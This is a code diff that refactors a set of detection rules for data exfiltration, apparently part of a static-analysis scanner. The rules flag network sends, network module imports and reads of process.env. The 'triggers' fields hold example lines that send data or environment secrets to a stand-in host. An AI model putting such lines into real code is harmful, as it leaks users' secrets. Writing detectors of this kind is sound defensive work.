@@ -1,5 +1,5 @@
 import { globalPath, loadedModule } from "./read.js";
-import { type SyntaxRule, weights } from "./rule.js";
+import { type SyntaxRule, types, weights } from "./rule.js";
 
 const family = "data_exfiltration";
 
@@ -26,7 +26,7 @@ export const dataExfiltration: readonly SyntaxRule[] = [
     catches: "talks to the network",
     triggers: "navigator.sendBeacon('https://elsewhere.example', data)",
     ignores: "const fetch = (key) => cache.get(key); fetch('a')",
-    on: ["Identifier", "MemberExpression"],
+    on: types("Identifier", "MemberExpression"),
     matches: (node, _index, syntax) => senders.has(globalPath(node, syntax) ?? ""),
   },
   {
@@ -36,7 +36,7 @@ export const dataExfiltration: readonly SyntaxRule[] = [
     catches: "loads a module that talks to the network",
     triggers: "import { request } from 'node:https'; request('https://elsewhere.example')",
     ignores: "import { join } from 'node:path'; join('http', 'net')",
-    on: ["ImportDeclaration", "ImportExpression", "CallExpression"],
+    on: types("ImportDeclaration", "ImportExpression", "CallExpression"),
     matches: (node, _index, syntax) => networkModules.has(loadedModule(node, syntax) ?? ""),
   },
   {
@@ -46,7 +46,7 @@ export const dataExfiltration: readonly SyntaxRule[] = [
     catches: "reads where secrets are kept",
     triggers: "send(process.env)",
     ignores: "send(process.platform)",
-    on: ["Identifier", "MemberExpression"],
+    on: types("Identifier", "MemberExpression"),
     matches: (node, _index, syntax) => secrets.has(globalPath(node, syntax) ?? ""),
   },
 ];
